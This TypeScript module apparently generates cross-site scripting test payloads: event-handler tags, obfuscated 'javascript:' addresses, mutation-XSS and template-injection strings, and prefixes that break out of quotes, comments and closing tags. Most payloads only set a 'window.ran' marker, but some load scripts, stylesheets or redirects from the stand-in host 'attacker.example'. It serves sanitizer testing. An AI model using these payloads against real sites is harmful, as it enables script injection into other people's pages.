/** What runs when a page takes a text for markup, a script or an address. Each tries to set `window.ran`. */
const RUN = 'window.ran=1';

const TAGS = [
  'img',
  'svg',
  'body',
  'iframe',
  'video',
  'audio',
  'input',
  'details',
  'object',
  'embed',
  'marquee',
  'style',
];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onanimationstart', 'onpointerenter'];
const ADDRESSES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'data:text/html,<script>',
  'vbscript:',
];
const OPENERS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '-->',
  '</script>',
  '</style>',
  '</textarea>',
  '</title>',
  ']]>',
  '\\',
  '${',
  '{{',
];
const OUTSIDE = 'http://attacker.example/';

const bodies = (): string[] => [
  `<script>${RUN}</script>`,
  `<script src="${OUTSIDE}x.js"></script>`,
  `<link rel="stylesheet" href="${OUTSIDE}x.css">`,
  `<meta http-equiv="refresh" content="0;url=${OUTSIDE}">`,
  `<base href="${OUTSIDE}">`,
  `<style>@import "${OUTSIDE}x.css";*{background:url(${OUTSIDE}x.png)}</style>`,
  `![x](${OUTSIDE}x.png) [y](javascript:${RUN})`,
  ...TAGS.flatMap((tag) =>
    EVENTS.map((event) => `<${tag} src="${OUTSIDE}x" ${event}="${RUN}" autofocus tabindex=1 open>`),
  ),
  ...ADDRESSES.flatMap((address) => [
    `<a href="${address}${RUN}">x</a>`,
    `<form action="${address}${RUN}"><button>x`,
    `${address}${RUN}`,
  ]),
  '<svg><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style>',
  '<template shadowrootmode=open><img src=x onerror=window.ran=1></template>',
  "');window.ran=1;('",
  '\u2028window.ran=1\u2028',
  '\u001B]8;;javascript:window.ran=1\u0007link\u001B]8;;\u0007 \u001B[31m<img src=x onerror=window.ran=1>',
  '<\u0000script>window.ran=1</script>',
  '{{constructor.constructor("window.ran=1")()}}',
  '__proto__',
  'constructor',
];

/** So many payloads, the most different ones first. */
export function payloads(count: number): string[] {
  const all = OPENERS.flatMap((opener) => bodies().map((body) => `${opener}${body}`));
  const step = Math.max(1, Math.floor(all.length / count));
  return all.filter((_, index) => index % step === 0).slice(0, count);
}
